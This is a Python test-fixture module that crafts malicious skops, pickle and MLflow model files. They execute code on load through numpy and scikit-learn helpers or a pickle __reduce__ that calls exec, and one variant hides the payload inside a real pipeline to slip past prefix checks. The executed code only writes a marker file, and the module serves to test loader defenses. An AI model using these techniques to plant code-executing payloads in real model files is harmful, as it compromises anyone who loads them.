"""Crafted model files, as an attacker would write them, and a marker that tells if they ran.

Each payload calls, while the file is loaded, a callable of numpy or scikit-learn that runs a
string of Python: the string creates the marker file. Every type name in these files starts
with `numpy.` or `sklearn.`, which a prefix check trusts.
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path
from typing import Any

import yaml

# numpy's test helper `runstring(code, namespace)` is `exec(code, namespace)`; scikit-learn's
# `assert_run_python_script_without_output(code)` runs the code in a new interpreter.
RUNSTRING = ("numpy.testing._private.utils", "runstring")
RUN_SCRIPT = ("sklearn.utils._testing", "assert_run_python_script_without_output")


def code_writing(marker: Path) -> str:
    """Python that creates `marker`: proof that a loader ran code from a file."""
    return f"open({str(marker)!r}, 'w').write('pwned')"


def _node(value: Any) -> dict[str, Any]:
    """The skops node of a plain value (a tuple of arguments, a dict), as skops writes it."""
    import skops.io

    node = _schema_of(skops.io.dumps(value))
    return {k: v for k, v in node.items() if k not in ("protocol", "_skops_version")}


def _args(marker: Path, target: tuple[str, str]) -> dict[str, Any]:
    code = code_writing(marker)
    return _node((code, {}) if target == RUNSTRING else (code,))


def payload(
    marker: Path, target: tuple[str, str] = RUNSTRING, loader: str = "reduce"
) -> dict[str, Any]:
    """A skops node that calls `target` with code writing `marker` when it is constructed.

    `loader` picks the skops loader that makes the call: `reduce` (ConstructorFromReduceNode:
    the type called with arguments) or `loss` (LossNode: the same, through the loss loader).
    """
    module, name = target
    if loader == "reduce":
        return {
            "__class__": name,
            "__module__": module,
            "__loader__": "ConstructorFromReduceNode",
            "content": _args(marker, target),
        }
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "LossNode",
        "__reduce__": {"args": _args(marker, target)},
        "content": _node({}),
    }


def _schema_of(data: bytes) -> dict[str, Any]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        schema: dict[str, Any] = json.loads(archive.read("schema.json"))
        return schema


def _with_schema(data: bytes, schema: dict[str, Any]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            content = (
                json.dumps(schema).encode() if item.filename == "schema.json" else src.read(item)
            )
            dst.writestr(item.filename, content)
    return out.getvalue()


def standalone(marker: Path, target: tuple[str, str] = RUNSTRING, loader: str = "reduce") -> bytes:
    """A skops file whose one object is the payload."""
    buffer = io.BytesIO()
    node = {**payload(marker, target, loader), "protocol": 2, "_skops_version": "0.16.0"}
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(node))
    return buffer.getvalue()


def hidden_in(model_file: bytes, marker: Path, target: tuple[str, str] = RUNSTRING) -> bytes:
    """A real model file with the payload set as one more attribute of its final estimator.

    The file still holds the real pipeline, and every other type in it is the template's own:
    only a check of the whole tree finds the payload.
    """
    schema = _schema_of(model_file)
    steps = schema["content"]["content"]["steps"]["content"]
    attrs = steps[-1]["content"][1]["content"]  # the estimator's attributes, a dict node
    attrs["content"]["_extra"] = payload(marker, target)
    key_types = attrs["key_types"]["content"]
    key_types.append(key_types[0])  # the new key is a str, like the others
    return _with_schema(model_file, schema)


class Exploit:
    """Pickled, it runs `code` when unpickled (through `exec`)."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (exec, (self.code,))


def pickled_mlflow_model(directory: Path, marker: Path, fmt: str = "cloudpickle") -> Path:
    """An MLflow model directory whose sklearn flavor is a pickle that writes `marker` on load."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "model.pkl").write_bytes(pickle.dumps(Exploit(code_writing(marker))))
    mlmodel = {
        "artifact_path": "model",
        "flavors": {
            "python_function": {
                "loader_module": "mlflow.sklearn",
                "model_path": "model.pkl",
                "env": {"virtualenv": "python_env.yaml"},
                "python_version": "3.11.7",
            },
            "sklearn": {
                "pickled_model": "model.pkl",
                "serialization_format": fmt,
                "sklearn_version": "1.9.1",
                "code": None,
            },
        },
        "mlflow_version": "3.17.2",
    }
    (directory / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    return directory
